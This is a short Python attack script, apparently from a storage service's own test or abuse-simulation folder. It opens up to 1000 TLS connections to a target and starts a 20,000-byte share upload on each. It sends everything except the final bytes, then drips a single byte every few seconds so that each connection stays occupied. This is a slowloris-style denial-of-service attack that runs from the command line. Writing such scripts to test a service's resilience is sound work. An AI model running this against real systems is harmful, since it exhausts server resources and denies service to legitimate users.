"""Uploads by those who know the secret, a byte now and then."""

from __future__ import annotations

import os
import socket

from misc.attack.target import Crowd, Target, again_and_again, from_command_line

CONNECTIONS = 1000
SHARE_BYTES = 20_000


def attack(target: Target) -> None:
    """Keep as many connections as there may be, all in the middle of a share."""
    requests = target.requests

    def make(number: int) -> socket.socket:
        connection = target.connect_tls()
        index = os.urandom(16)
        write = requests.write(index, 0, bytes(SHARE_BYTES))
        connection.sendall(requests.allocate(index, SHARE_BYTES) + write[: -SHARE_BYTES + 1])
        return connection

    crowd = Crowd(make, CONNECTIONS)
    for _ in again_and_again(target, 0.005):
        crowd.fill()
        crowd.say(b"x", 5.0)


if __name__ == "__main__":
    attack(from_command_line(__doc__))
